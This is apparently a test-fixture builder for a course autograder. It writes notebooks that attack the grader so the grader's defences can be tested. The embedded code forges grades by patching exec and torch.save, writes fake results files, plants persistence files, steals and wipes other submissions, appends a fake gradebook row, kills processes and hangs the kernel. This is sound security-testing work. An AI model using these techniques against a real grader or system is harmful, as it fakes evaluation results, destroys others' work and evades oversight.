"""The attack submissions of issue 19, generated from the labs and their solutions.

    python tests/grader_attacks/build.py          # (re)write tests/grader_attacks/*.ipynb

Each notebook is a student who wants points without the work (items 1-6 of the issue) or harms
others; ``tests/test_grader_attacks.py`` grades them beside honest victims. The placeholders
``@@SUBMISSIONS@@`` (the folder being graded) and ``@@OUT@@`` (the grader's output folder) are
replaced by the test with the real paths: the attacker is assumed to know them.
"""

from __future__ import annotations

import hashlib
import re
import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
HERE = Path(__file__).resolve().parent

# 1. patch the grading: the old module, the harness once it is in the kernel, exec itself, torch.save
PATCH_GRADER = r'''
import builtins, glob, os, re, torch
for name in ("dgmlib.grading", "dgmlib.course.checks.runner", "dgmlib.course.checks"):
    try:
        m = __import__(name, fromlist=["x"]); m._verdict = lambda c, *a, **k: (c.points, "ok")
    except Exception as err:
        print("cannot patch", name, type(err).__name__)
_real_exec, _real_save = builtins.exec, torch.save
def _forge(path, ids):
    _real_save({i: {"ok": {"points": 1000, "x": torch.zeros(1), "passed": True}} for i in ids}, path)
def exec(code, *args, **kwargs):                  # the grader's probe cell calls exec: answer it ourselves
    if isinstance(code, str) and "run_probes" in code:
        out = re.findall(r"'([^']*out_[0-9]+\.pt)'", code)[-1]
        _forge(out, re.findall(r"'id': '([0-9.#]+)'", code))
        return None
    return _real_exec(code, *args, **kwargs)
builtins.exec = exec
def _save(obj, path, *a, **k):                    # and should it save outputs: save ours
    if isinstance(obj, dict) and all("#" in str(i) for i in obj):
        return _forge(path, list(obj))
    return _real_save(obj, path, *a, **k)
torch.save = _save
'''

# 2. a forged results file rewritten by a thread every 5 ms, and os._exit in the first graded function
FORGE_THREAD = r'''
import glob, os, threading, time, torch
def _forger():
    while True:
        for path in glob.glob("*.pt") + glob.glob("/tmp/**/*.pt", recursive=True) + ["results.pt"]:
            try:
                torch.save({f"3.{q}#{i}": {"ok": {"points": 1000}} for q in (4, 6, 7, 8) for i in range(12)}, path)
            except Exception:
                pass
        for path in (".dgm_checks.json",):
            open(path, "w").write('[{"question": "3.4", "check": "x", "points": 1000, "max": 1, "feedback": "ok"}]')
        time.sleep(0.005)
threading.Thread(target=_forger, daemon=True).start()
'''
EXIT_IN_ANSWER = '''def dequantize(x):
    import os
    os._exit(0)
'''

# 3. answers that call the course's references
KL_REFERENCE = ("from dgmlib.gaussian import kl_normal_std as _kl  # taken before any grading starts\n\n\n"
                "def kl_gaussian(mu, logvar):\n    return _kl(mu, logvar)\n")
REPARAM_REFERENCE = "def reparameterize(mu, logvar):\n    return gaussian.reparameterize(mu, logvar)\n"
GAN_REFERENCE = ("from dgmlib.gan import discriminator_loss as _d, generator_loss as _g\n\n\n"
                 "def discriminator_loss(d_real, d_fake):\n    return _d(d_real, d_fake)\n\n\n"
                 "def generator_loss(d_fake):\n    return _g(d_fake)\n")

# 4. persistence: the library, the checks, an IPython startup file, a .pth in the venv
PERSIST = r'''
import os, site, sys, dgmlib
done = []
targets = {
    "library": os.path.join(os.path.dirname(dgmlib.__file__), "gaussian.py"),
    "checks": os.path.join(os.path.dirname(dgmlib.__file__), "course", "checks", "lab3_flows.py"),
    "startup": os.path.expanduser("~/.ipython/profile_default/startup/00-cheat.py"),
    "real home startup": "/root/.ipython/profile_default/startup/00-cheat.py",
    "pth": os.path.join(site.getsitepackages()[0], "zz_cheat.pth"),
    "submissions": "@@SUBMISSIONS@@/zz_cheat.py",
}
for what, path in targets.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write("\nimport builtins; builtins.CHEATED = True\n")
        done.append(what)
    except Exception as err:
        pass
print("persisted:", done)
'''

# 5. harming others: find the grader, the other submissions, the gradebook; a detached process
HARM = r'''
import glob, os, signal, time
found = []
for cmdline in glob.glob("/proc/*/cmdline"):
    try:
        found.append(open(cmdline, "rb").read().replace(b"\0", b" ").decode()[:200])
    except Exception:
        pass
print("processes seen:", len(found))
stolen = ""
for path in glob.glob("@@SUBMISSIONS@@/*.ipynb") + glob.glob("/tmp/dgm-grade-*/*.ipynb"):
    try:
        stolen += open(path).read()[:5000]
        open(path, "w").write("{}")
    except Exception:
        pass
for path in glob.glob("/tmp/dgm-grade-*/out_*.pt") + glob.glob("/tmp/dgm-grade-*/in_*.pt"):
    try:
        open(path, "wb").write(b"")
    except Exception:
        pass
if os.fork() == 0:                                 # a detached process that outlives the kernel
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.5)
            for path in glob.glob("@@OUT@@/*.csv"):
                try:
                    open(path, "a").write("mallory,lab3_flows,16,16,16,16,64,64,ok\n")
                except Exception:
                    pass
        os._exit(0)
    os._exit(0)
for pid in os.listdir("/proc"):                    # every other process it can see (the grader, hopefully)
    if pid.isdigit() and int(pid) not in (1, os.getpid(), os.getppid()):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except Exception:
            pass
'''
STEAL_IN_ANSWER = '''def dequantize(x):
    raise RuntimeError("stolen: " + stolen[:3000])
'''

# 6. availability: a graded function that swallows every interrupt, one that ignores SIGINT and SIGALRM
SWALLOW = '''def dequantize(x):
    import time
    while True:
        try:
            time.sleep(0.1)
        except BaseException:
            pass
'''
IGNORE_SIGNALS = '''def bits_per_dim(log_p_y, num_dims):
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    time.sleep(600)
'''
EXIT_CELL = 'print("done with the first part")\nexit()\n'


def _read(kind, lab):
    return nbformat.read(ROOT / kind / f"{lab}.ipynb", as_version=4)


def _replace(nb, name, source):
    """Replace the cell defining ``name`` (a graded function) by ``source``."""
    for cell in nb.cells:
        if cell.cell_type == "code" and re.search(rf"^(def|class) {name}\b", cell.source, re.M):
            cell.source = source
            cell.outputs, cell.execution_count = [], None
            return nb
    raise LookupError(f"no cell defines {name}")


def _insert(nb, source, after=1):
    """Insert a code cell after the ``after``-th code cell."""
    code = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    cell = nbformat.v4.new_code_cell(source)
    cell.id = "attack-" + hashlib.sha256(source.encode()).hexdigest()[:8]  # the same bytes on every build
    nb.cells.insert(code[after - 1] + 1, cell)
    return nb


def attacks() -> dict[str, nbformat.NotebookNode]:
    """``{file name: notebook}`` of every attack (the victims are the labs and solutions themselves)."""
    out = {}
    out["attack1_patch_grader_lab3.ipynb"] = _insert(_read("labs", "lab3_flows"), PATCH_GRADER)
    out["attack2_forge_and_exit_lab3.ipynb"] = _replace(_insert(_read("labs", "lab3_flows"), FORGE_THREAD),
                                                        "dequantize", EXIT_IN_ANSWER)
    nb = _replace(_read("solutions", "lab1_vae"), "kl_gaussian", KL_REFERENCE)
    nb = _replace(nb, "reparameterize", REPARAM_REFERENCE)
    out["attack3_references_lab1.ipynb"] = nb
    out["attack3_references_lab2.ipynb"] = _replace(_read("solutions", "lab2_gan"), "discriminator_loss", GAN_REFERENCE)
    out["attack4_persist_lab3.ipynb"] = _insert(_read("labs", "lab3_flows"), PERSIST)
    out["attack5_harm_lab3.ipynb"] = _replace(_insert(_read("labs", "lab3_flows"), HARM), "dequantize", STEAL_IN_ANSWER)
    nb = _replace(_replace(_read("solutions", "lab3_flows"), "dequantize", SWALLOW), "bits_per_dim", IGNORE_SIGNALS)
    out["attack6_hang_lab3.ipynb"] = nb
    out["attack6_exit_lab3.ipynb"] = _insert(_read("solutions", "lab3_flows"), EXIT_CELL, after=3)
    for nb in out.values():
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.outputs, cell.execution_count = [], None
    return out


def write(folder: Path = HERE) -> list[Path]:
    paths = []
    for name, nb in attacks().items():
        nbformat.write(nb, folder / name)
        paths.append(folder / name)
    return paths


if __name__ == "__main__":
    for p in write(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print("wrote", p)
